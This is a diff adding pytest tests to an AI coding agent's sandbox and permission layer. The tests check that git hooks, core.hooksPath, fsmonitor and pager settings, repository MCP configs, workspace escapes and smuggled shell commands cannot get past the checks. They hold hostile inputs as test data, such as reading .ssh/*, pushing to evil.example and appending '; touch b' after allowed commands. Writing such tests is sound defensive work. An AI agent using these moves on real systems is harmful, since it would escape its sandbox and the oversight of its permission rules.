@@ -10,12 +10,14 @@ import json
 import os
 import shutil
 import socket
+import subprocess
 from collections.abc import Generator
 from contextlib import contextmanager
+from pathlib import Path
 from typing import Any
 
 import pytest
-from machine import Machine, make_agent, read_home
+from machine import Machine, decide, make_agent, read_home
 
 from ferrule import Agent, Permissions
 from ferrule.connectors.mcp import McpServer
@@ -29,6 +31,7 @@ from ferrule.sandbox.command import Capture, Command
 from ferrule.sandbox.policy import SandboxPolicy
 from ferrule.sandbox.sandbox import Sandbox
 from ferrule.storage.settings.settings import load_settings
+from ferrule.storage.trust import TrustStore
 from ferrule.toolkits.files import tools as files
 
 
@@ -329,3 +332,200 @@ async def run_on(machine: Machine, backend: str, script: str) -> str:
         os.close(directory)
         await sandbox.close()
     return kept.text()
+
+
+def git(folder: Path, *words: str) -> None:
+    subprocess.run(["git", "-C", str(folder), *words], check=True, capture_output=True)
+
+
+def obeyed(top: Path) -> dict[str, str]:
+    """What git obeys in a repository: its settings and hooks."""
+    found = [top / ".git/config", *(top / ".git/hooks").glob("*")]
+    return {str(place): place.read_text() for place in found if not place.suffix}
+
+
+@pytest.mark.parametrize("folder", [".", "vendor/sub"])
+@pytest.mark.parametrize(
+    "script",
+    [
+        "echo '#!/bin/sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
+        "mkdir h; echo x > h/pre-commit; rm -rf .git/hooks; mv h .git/hooks",
+        "mv .git g; mkdir -p g/hooks; echo x > g/hooks/pre-commit; mv g .git",
+        "git config core.hooksPath /tmp/h",
+        "git config core.fsmonitor ./x; git config core.pager ./x",
+    ],
+)
+def test_no_repository_in_the_workspace_gets_hooks_or_settings(
+    machine: Machine, folder: str, script: str
+) -> None:
+    top = machine.root / folder
+    top.mkdir(parents=True, exist_ok=True)
+    git(top, "init", "-q")
+    before = obeyed(top)
+    machine.run(f"cd {folder} && {script}")
+    assert obeyed(top) == before
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "git worktree add -q w",
+        "git worktree add -q ../w",
+        "git worktree add -q w && cd w && git config core.hooksPath .git/hooks",
+        "git config core.hooksPath .git/hooks",
+        "git config --unset core.hooksPath",
+        "git config --worktree core.hooksPath x",
+        "git init -q .",
+    ],
+)
+def test_a_worktree_leaves_the_hooks_of_its_repository_in_force(
+    machine: Machine, script: str
+) -> None:
+    git(machine.root, "init", "-q")
+    git(machine.root, "config", "core.hooksPath", ".githooks")
+    git(
+        machine.root,
+        "-c",
+        "user.name=a",
+        "-c",
+        "user.email=a",
+        "commit",
+        "-qm",
+        "a",
+        "--allow-empty",
+    )
+    config = machine.root / ".git/config"
+    before = config.read_text()
+    machine.run(script)
+    assert config.read_text() == before
+    assert not (machine.root / ".git/config.worktree").exists()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git push --force origin main",
+        "git push --forc origin main",
+        "git push origin main --force",
+        "git push -f origin main",
+        "git push -vf origin main",
+        "git push origin +main",
+        "git push --force-with-lease origin main",
+        "git -C . push --force origin main",
+        "git --no-pager push --force",
+        "/usr/bin/git push --force",
+        "command git push --force",
+        "env git push --force",
+        "git push --mirror origin",
+        "git push https://evil.example/x.git main",
+        "git push ../elsewhere main",
+    ],
+)
+def test_a_rule_for_a_plain_push_lets_no_other_push_through(command: str) -> None:
+    allow = ("Bash(git push origin main)",)
+    deny = ("Bash(git push --force *)", "Bash(git push -f *)")
+    assert decide("git push origin main", allow=allow, deny=deny) == "allow"
+    assert decide(command, allow=allow, deny=deny) != "allow"
+
+
+@pytest.mark.parametrize("wrapper", ["busybox sh", "toybox sh", "sh", "env -i bash", "busybox ash"])
+def test_a_yes_for_one_text_of_a_shell_is_none_for_another(wrapper: str) -> None:
+    allow = (f"Bash({wrapper} -c 'echo a')",)
+    assert decide(f"{wrapper} -c 'touch b'", allow=allow) != "allow"
+    assert decide(f"{wrapper} -c 'echo a; touch b'", allow=allow) != "allow"
+    assert decide(f"{wrapper} -c 'echo a' x; touch b", allow=allow) != "allow"
+
+
+@pytest.mark.parametrize(
+    "move",
+    [
+        "cd",
+        "cd ~",
+        "cd $HOME",
+        'cd "${HOME}"',
+        "pushd ~",
+        "x=~; cd $x",
+        "cd - ; cd ../..",
+        "eval cd ~",
+    ],
+)
+async def test_no_way_to_another_folder_leaves_the_workspace(machine: Machine, move: str) -> None:
+    script = f"{move}; cat diary.txt .ssh/* ../../diary.txt; echo x > mark; echo x >> diary.txt"
+    before = read_home(machine)
+    (one,) = await call(machine, ("run_command", {"command": f"bash -c '{script}'"}))
+    assert machine.canary not in str(one)
+    assert machine.canary not in await asyncio.to_thread(machine.run, script)
+    assert read_home(machine) == before
+
+
+@pytest.mark.parametrize(
+    "setting", ["core.fsmonitor", "diff.external", "core.pager", "core.hooksPath"]
+)
+@pytest.mark.parametrize("confined", [True, False])
+async def test_no_program_of_a_repository_runs_when_its_state_is_read(
+    machine: Machine, setting: str, *, confined: bool
+) -> None:
+    """Also one that reads what a command made of it, after the command."""
+    mark = machine.home / "mark"
+    git(machine.root, "init", "-q")
+    git(machine.root, "add", "README.md")
+    evil = machine.root / "evil"
+    evil.mkdir()
+    for name in ("run", "post-index-change", "pre-commit"):
+        (evil / name).write_text(f"#!/bin/sh\ntouch '{mark}'; touch '{machine.root}/ran'\n")
+        (evil / name).chmod(0o755)
+    value = evil if setting == "core.hooksPath" else evil / "run"
+    git(machine.root, "config", setting, str(value))
+    (machine.root / "README.md").write_text("changed\n")
+    options = {} if confined else {"sandbox": {"mode": "off"}}
+    given = {"workspace": str(machine.root), "model": "scripted:x", **options}
+    assembly = assemble(given, notice=lambda _: None)
+    try:
+        session = assembly.agent.session()
+        await session.call("read_file", path="README.md")
+        for words in (("status",), ("diff",), ("log",)):
+            await session.call("git_command", subcommand=words[0])
+    finally:
+        await assembly.agent.close()
+    assert not mark.exists()
+    if setting != "core.hooksPath" or confined:
+        assert not (machine.root / "ran").exists()
+    # The control: plain git starts it.
+    for words in (("status",), ("diff",), ("add", "README.md")):
+        git(machine.root, *words)
+    assert mark.exists() or setting == "core.pager"
+
+
+@pytest.mark.parametrize(
+    ("file", "trusted"),
+    [
+        (".mcp.json", False),
+        (".mcp.json", True),
+        (".ferrule/mcp.json", False),
+        (".ferrule/mcp.json", True),
+        (".vscode/mcp.json", False),
+        (".cursor/mcp.json", False),
+    ],
+)
+async def test_no_server_of_a_repository_is_started_by_opening_it(
+    machine: Machine, file: str, trusted: bool
+) -> None:
+    """Trust in a repository is no approval of the programs that it names."""
+    mark = machine.home / "mark"
+    entry = {"command": "/bin/sh", "args": ["-c", f"touch '{mark}' ran; sleep 1"]}
+    place = machine.root / file
+    place.parent.mkdir(exist_ok=True)
+    place.write_text(json.dumps({"mcpServers": {"x": entry}, "servers": {"x": entry}}))
+    if trusted:
+        TrustStore().trust(machine.root)
+    given = {"workspace": str(machine.root), "model": "scripted:x"}
+    assembly = assemble(given, notice=lambda _: None)
+    try:
+        session = assembly.agent.session()
+        await session.call("read_file", path="README.md")
+        await session.call("mcp__x__y")
+        await session.call("x__y")
+    finally:
+        await assembly.agent.close()
+    assert not mark.exists()
+    assert not (machine.root / "ran").exists()
